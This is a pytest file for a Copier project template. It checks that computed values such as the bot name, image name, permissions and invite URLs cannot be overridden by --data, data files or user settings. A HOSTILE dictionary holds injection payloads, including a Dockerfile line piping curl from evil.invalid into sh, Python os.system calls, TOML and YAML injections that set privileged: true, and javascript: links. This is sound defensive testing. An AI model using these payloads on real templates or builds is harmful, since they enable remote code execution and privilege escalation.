"""Computed values cannot be overridden: not by --data, a data file, or the user's settings.

Copier gives a `when: false` value whatever --data, --data-file or the Copier settings'
`defaults:` say, and never validates it. The template's answer: templates import every computed
value from hooks/derived.jinja (recomputed from the asked, validated answers), and the internal
questions' validators refuse a --data value that differs. Each hostile value below aims at one
file format; the settings channel must leave every rendered file, and the message after copy,
byte-identical to a render without it.
"""

from __future__ import annotations

import contextlib
import os
import re
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from copier.__main__ import CopierApp
from support.template import APPLICATION_ID, TEMPLATE_ROOT

# Every computed value gets one: with `"` and line breaks for TOML, Python and the Dockerfile,
# YAML keys, Python code, a javascript: link target, Administrator for five listed permissions.
HOSTILE: dict[str, Any] = {
    "bot_name": 'Evil"\nRUN curl -s https://evil.invalid/x | sh\n# "',
    "client_id": '1 or __import__("os").system("id")',
    "distribution_name": 'evil"\n[tool.evil]\nrun = "1',
    "image_name": "evil\n    privileged: true\n#",
    "guild_install": False,
    "user_install": False,
    "invite_scopes": ['bot"); __import__("os").system("id"); ("'],
    "permissions_value": 8,
    "guild_invite_url": "javascript:alert(document.domain)",
    "user_invite_url": "javascript:alert(1)",
}
# A guild and a user install with an application ID, Docker and Kubernetes: every computed value
# reaches a file (Python, TOML, YAML, the Dockerfile, Markdown link targets).
ANSWERS: dict[str, Any] = {
    "app_name": "Weather Bot",
    "application_id": APPLICATION_ID,
    "install_contexts": ["guild", "user"],
    # Every part on, so that every file that writes a computed value is rendered.
    "preset": "bot-to-ship",
}


def internal_questions() -> list[str]:
    """The `when: false` questions of copier.yml: every computed value."""
    documents = yaml.safe_load_all((TEMPLATE_ROOT / "copier.yml").read_text(encoding="utf-8"))
    config = {key: value for document in documents if document for key, value in document.items()}
    return [
        name
        for name, question in config.items()
        if isinstance(question, dict) and question.get("when") is False
    ]


def data_arguments(answers: dict[str, Any]) -> list[str]:
    arguments = []
    for name, value in answers.items():
        text = yaml.safe_dump(value, default_flow_style=True, width=10_000).strip()
        if text.endswith("\n..."):
            text = text[: -len("\n...")]
        arguments += ["--data", f"{name}={text if not isinstance(value, str) else value}"]
    return arguments


def copier_cli(*arguments: str) -> None:
    """The `copier` command, in this process (its own argument and data-file parsing)."""
    _, status = CopierApp.run(["copier", *arguments], exit=False)
    assert status == 0, arguments


def render(template: Path, destination: Path, *extra: str, quiet: bool = True) -> Path:
    copier_cli(
        "copy",
        "--defaults",
        *(["--quiet"] if quiet else []),
        *data_arguments(ANSWERS),
        *extra,
        str(template),
        str(destination),
    )
    return destination


@dataclass(frozen=True)
class Render:
    project: Path
    message: str  # what Copier wrote to standard error, the destination as <destination>


def render_loudly(template: Path, destination: Path, settings: dict[str, Any]) -> Render:
    """A render with these Copier settings, and everything it wrote to standard error (Python's
    writes and any child process's, in order, as capfd would see them)."""
    path = destination.parent / "settings.yml"
    path.write_text(yaml.safe_dump(settings), encoding="utf-8")
    with (
        pytest.MonkeyPatch.context() as monkeypatch,
        tempfile.TemporaryFile("w+", buffering=1, encoding="utf-8") as stderr,
    ):
        monkeypatch.setenv("COPIER_SETTINGS_PATH", str(path))
        saved = os.dup(2)
        os.dup2(stderr.fileno(), 2)
        try:
            with contextlib.redirect_stderr(stderr):
                render(template, destination, quiet=False)
        finally:
            os.dup2(saved, 2)
            os.close(saved)
        stderr.seek(0)
        return Render(destination, stderr.read().replace(str(destination), "<destination>"))


def tree(project: Path) -> dict[str, bytes]:
    return {
        path.relative_to(project).as_posix(): path.read_bytes()
        for path in sorted(project.rglob("*"))
        if path.is_file()
    }


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory, template_folder: Path) -> Render:
    """The render every other is compared with: no Copier settings."""
    return render_loudly(template_folder, tmp_path_factory.mktemp("baseline") / "weather-bot", {})


@pytest.fixture(scope="module")
def baseline(clean: Render) -> Path:
    return clean.project


def test_every_computed_value_has_a_hostile_value() -> None:
    assert sorted(internal_questions()) == sorted(HOSTILE)


def test_the_baseline_renders_every_computed_value(baseline: Path) -> None:
    """Otherwise "no effect" below would prove nothing for the files that were not rendered."""
    files = tree(baseline)
    assert {"Dockerfile", "compose.yaml", "deploy/kubernetes.yaml", "pyproject.toml"} <= set(files)
    readme = files["README.md"].decode()
    assert "permissions=274877991936" in readme and "integration_type=1" in readme


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_data_cannot_set_a_computed_value(name: str, template_folder: Path, tmp_path: Path) -> None:
    destination = tmp_path / "weather-bot"
    with pytest.raises(ValueError, match=f"{name} is computed from your answers") as refused:
        render(template_folder, destination, *data_arguments({name: HOSTILE[name]}))
    assert "cannot be set" in str(refused.value)
    assert not destination.exists()


# The data file's values reach the same validators as --data's (above, every name in the quick
# loop): the quick loop reads one data file, the full suite one per name.
@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, marks=[pytest.mark.slow] if i else [])
        for i, name in enumerate(sorted(HOSTILE))
    ],
)
def test_data_file_cannot_set_a_computed_value(
    name: str, template_folder: Path, tmp_path: Path
) -> None:
    data_file = tmp_path / "shared-answers.yml"
    data_file.write_text(yaml.safe_dump({**ANSWERS, name: HOSTILE[name]}), encoding="utf-8")
    destination = tmp_path / "weather-bot"
    with pytest.raises(ValueError, match=f"{name} is computed from your answers"):
        copier_cli(
            "copy",
            "--defaults",
            "--quiet",
            "--data-file",
            str(data_file),
            str(template_folder),
            str(destination),
        )
    assert not destination.exists()


def test_data_may_repeat_a_computed_value_exactly(
    baseline: Path, template_folder: Path, tmp_path: Path
) -> None:
    """A data file written from a render's own values (say, by a script) still works."""
    same = {"permissions_value": 274877991936, "bot_name": "Weather Bot", "guild_install": True}
    project = render(template_folder, tmp_path / "weather-bot", *data_arguments(same))
    assert tree(project) == tree(baseline)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, template_folder: Path) -> Render:
    """A render with Copier user settings whose `defaults:` set every computed value (and a
    prefix that is never asked here: its question's `when` is false without Message Content)."""
    defaults = {**HOSTILE, "command_prefix": '"; import os #'}
    destination = tmp_path_factory.mktemp("hostile") / "weather-bot"
    return render_loudly(template_folder, destination, {"defaults": defaults})


def test_settings_defaults_have_no_effect(baseline: Path, hostile: Render) -> None:
    ours, expected = tree(hostile.project), tree(baseline)
    differing = sorted(n for n in ours.keys() | expected.keys() if ours.get(n) != expected.get(n))
    assert differing == []


def test_settings_defaults_do_not_reach_the_message(clean: Render, hostile: Render) -> None:
    assert "walks you through" in clean.message and "integration_type=0" in clean.message
    assert hostile.message == clean.message


# Every name a computed value has, and the import line that must precede its use.
IMPORT = re.compile(r"\{%-?\s*from\s+'hooks/derived\.jinja'\s+import\s+([\w\s,]+?)\s+with context")


def test_every_template_imports_the_computed_values_it_writes() -> None:
    """A template that wrote `{{ permissions_value }}` without the import would write whatever
    the context holds: the renders above cover one answer set, this covers every file."""
    names = set(HOSTILE)
    missing = {}
    for path in sorted((TEMPLATE_ROOT / "template").rglob("*.jinja")):
        text = path.read_text(encoding="utf-8")
        imported = {
            name.strip() for match in IMPORT.finditer(text) for name in match.group(1).split(",")
        }
        used = {name for name in names if re.search(rf"\b{name}\b", text)}
        if used - imported:
            missing[path.relative_to(TEMPLATE_ROOT).as_posix()] = sorted(used - imported)
    assert missing == {}
